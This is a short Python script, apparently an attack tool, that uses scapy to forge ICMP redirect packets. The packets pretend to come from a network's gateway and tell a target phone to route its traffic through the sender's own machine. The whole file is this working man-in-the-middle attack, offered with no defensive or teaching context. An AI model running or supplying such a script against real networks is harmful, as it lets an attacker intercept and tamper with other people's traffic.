"""icmp_redirect.py PHONE GATEWAY SELF: tells the phone, in the gateway's name, to send through SELF."""

import sys
import time

from scapy.all import ICMP, IP, UDP, send

phone, gateway, own = sys.argv[1:]
for _ in range(3):
    quoted = IP(src=phone, dst="198.51.100.10") / UDP(sport=40000, dport=443)
    send(IP(src=gateway, dst=phone) / ICMP(type=5, code=1, gw=own) / quoted, verbose=False)
    time.sleep(0.5)
